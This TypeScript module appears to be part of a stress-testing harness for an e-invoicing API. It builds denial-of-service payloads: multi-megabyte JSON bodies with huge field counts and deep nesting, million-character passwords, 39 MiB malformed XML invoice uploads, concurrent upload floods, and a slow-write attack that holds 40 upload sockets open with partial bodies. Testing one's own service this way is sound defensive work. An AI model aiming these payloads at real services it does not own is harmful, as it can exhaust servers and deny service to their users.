import { type Attack, attack } from './attack.ts';
import { type Installation, OUR_SENDER, OURS } from './installation.ts';
import { connectTo, INVOICE, send, withKey } from './senders.ts';
import { filling } from './soap-attacks.ts';

const MIB = 1_048_576;

const fields = (bytes: number): string => {
  const names: string[] = [];
  for (let size = 0; size < bytes; size += names[names.length - 1]?.length ?? 0)
    names.push(`"f${names.length}":1`);
  return names.join(',');
};

interface Json {
  name: string;
  path: string;
  body: () => string;
  isKnown?: boolean;
}

const jsonAttack = ({ name, path, body, isKnown }: Json): Attack =>
  attack(`json-${name}`, async (target) => {
    const text = body();
    const headers = isKnown ? withKey(target) : {};
    return {
      bytes: text.length,
      strike: () => send(target, `${target.api}${path}`, { body: text, headers }),
    };
  });

const LOGIN = '/v1/auth/login';
const MESSAGES = '/v1/messages';

/** JSON from anybody, and from a customer. */
const JSON_ATTACKS: Attack[] = [
  jsonAttack({ name: 'sign-in-fields', path: LOGIN, body: () => `{${fields(1.9 * MIB)}}` }),
  jsonAttack({ name: 'sign-in-fields-1-mib', path: LOGIN, body: () => `{${fields(0.99 * MIB)}}` }),
  jsonAttack({ name: 'sign-in-deep', path: LOGIN, body: () => filling('[', 0.9 * MIB) }),
  jsonAttack({
    name: 'sign-in-password',
    path: LOGIN,
    body: () => JSON.stringify({ email: 'owner@example.org', password: 'p'.repeat(1_000_000) }),
  }),
  jsonAttack({
    name: 'sign-in-email',
    path: LOGIN,
    body: () => JSON.stringify({ email: `${'a.'.repeat(400_000)}@b`, password: 'p' }),
  }),
  jsonAttack({ name: 'sign-in-huge', path: LOGIN, body: () => JSON.stringify('a'.repeat(40 * MIB)) }),
  jsonAttack({
    name: 'sign-up-prototype',
    path: '/v1/auth/signup',
    body: () => `{"account":{${fields(0.9 * MIB)}}}`,
  }),
  jsonAttack({ name: 'message-fields', path: MESSAGES, body: () => `{${fields(1.9 * MIB)}}`, isKnown: true }),
  jsonAttack({
    name: 'capabilities',
    path: '/v1/participants',
    body: () => `{"capabilities":[${filling('{"x":1},', 0.9 * MIB)}{}]}`,
    isKnown: true,
  }),
  jsonAttack({
    name: 'lookup-ids',
    path: '/v1/network/participants/lookup',
    body: () => JSON.stringify({ ids: new Array(200_000).fill('1') }),
    isKnown: true,
  }),
  jsonAttack({
    name: 'dry-run-findings',
    path: '/v1/messages/validate',
    body: () => JSON.stringify({ payload: broken(0.8 * MIB), type: 'invoice' }),
    isKnown: true,
  }),
  attack('json-query', async (target) => {
    const query = Array.from({ length: 1_500 }, (_, i) => `f${i}=1`).join('&');
    const url = `${target.api}/v1/messages?${query}`;
    return {
      bytes: url.length,
      strike: () => send(target, url, { method: 'GET', headers: withKey(target) }),
    };
  }),
];

/** An invoice with more in it. */
function filled(more: string): string {
  const text = INVOICE.toString();
  const end = text.lastIndexOf('</');
  return text.slice(0, end) + more + text.slice(end);
}

/** An invoice in which nearly every element breaks a rule: of so many bytes it has not more of them than are read. */
const broken = (bytes: number): string => filled(filling('<cbc:Note></cbc:Note>       ', bytes));

interface Upload {
  payloadObjectKey: string;
  uploadUrl: string;
}

async function placeFor(target: Installation, bytes: number): Promise<Upload> {
  const answer = await fetch(`${target.api}/v1/messages/uploads`, {
    method: 'POST',
    headers: { ...withKey(target), 'content-type': 'application/json' },
    body: JSON.stringify({ companyId: target.companyId, bytes }),
  });
  return (await answer.json()) as Upload;
}

/** Uploads a document and submits it; answers what became of it. */
async function submitted(target: Installation, document: Buffer): Promise<string> {
  const { uploadUrl, payloadObjectKey } = await placeFor(target, document.length);
  const put = await send(target, uploadUrl, {
    method: 'PUT',
    contentType: 'application/xml',
    body: document,
  });
  const asked = { sender: OUR_SENDER, receiver: OURS, type: 'invoice', payloadObjectKey };
  const sent = await fetch(`${target.api}/v1/messages`, {
    method: 'POST',
    headers: { ...withKey(target), 'content-type': 'application/json' },
    body: JSON.stringify(asked),
  });
  const { id } = (await sent.json()) as { id?: string };
  return id === undefined ? `PUT ${put}, submit ${sent.status}` : outcome(target, id);
}

const UNDER_WAY = new Set(['QUEUED_VALIDATION', 'QUEUED', 'SENDING']);

/** The status of a message once it is none of those that pass. */
export async function outcome(target: Installation, id: string): Promise<string> {
  for (let waited = 0; ; waited += 200) {
    const answer = await fetch(`${target.api}/v1/messages/${id}`, { headers: withKey(target) });
    const { status, lastErrorCode } = (await answer.json()) as { status: string; lastErrorCode?: string };
    if (!UNDER_WAY.has(status)) return [status, lastErrorCode].filter(Boolean).join(' ');
    if (waited > 60_000) return `still ${status} after a minute`;
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
}

const uploadAttack = (name: string, document: () => string | Buffer): Attack =>
  attack(`upload-${name}`, async (target) => {
    const bytes = Buffer.from(document());
    return { bytes: bytes.length, strike: () => submitted(target, bytes) };
  });

const UPLOAD_ATTACKS: Attack[] = [
  uploadAttack('findings-10-mib', () => broken(10 * MIB)),
  uploadAttack('findings-39-mib', () => broken(39 * MIB)),
  uploadAttack('elements', () => filled(filling('<cbc:Note/>', 39 * MIB))),
  uploadAttack('attributes', () => filled(filling('<x a="" b="" c="" d="" e="" f="" g="" h=""/>', 39 * MIB))),
  uploadAttack('attributes-1-million', () =>
    filled(filling('<x a="" b=""/>                              ', 30 * MIB)),
  ),
  uploadAttack('line-ends', () => filled(`<x/>${filling('\n', 39 * MIB)}`)),
  uploadAttack('not-xml', () => Buffer.alloc(39 * MIB, 0x20)),
  uploadAttack('deep', () => filling('<x>', 39 * MIB)),
  attack('upload-many-at-once', async (target) => {
    const bytes = Buffer.from(broken(20 * MIB));
    return {
      bytes: 8 * bytes.length,
      strike: async () => {
        const answers = await Promise.all(Array.from({ length: 8 }, () => submitted(target, bytes)));
        return `${answers.length} answers, such as ${answers[0]} and ${answers.at(-1)}`;
      },
    };
  }),
  attack('upload-unfinished', async (target) => {
    const places = await Promise.all(Array.from({ length: 40 }, () => placeFor(target, 39 * MIB)));
    const part = Buffer.alloc(20 * MIB, 0x20);
    return {
      bytes: places.length * part.length,
      strike: async () => {
        const sockets = await Promise.all(places.map(({ uploadUrl }) => connectTo(target, uploadUrl)));
        for (const [i, socket] of sockets.entries()) {
          const { pathname } = new URL(places[i]?.uploadUrl ?? target.api);
          socket.on('error', () => undefined);
          socket.write(`PUT ${pathname} HTTP/1.1\r\nHost: a\r\nContent-Type: application/xml\r\n`);
          socket.write(`Content-Length: ${39 * MIB}\r\n\r\n`);
          socket.write(part);
        }
        await new Promise((resolve) => setTimeout(resolve, 8_000));
        const open = sockets.filter((socket) => !socket.closed).length;
        for (const socket of sockets) socket.destroy();
        return `${open} of ${sockets.length} still open after 8 s`;
      },
    };
  }),
];

export const API_ATTACKS: Attack[] = [...JSON_ATTACKS, ...UPLOAD_ATTACKS];
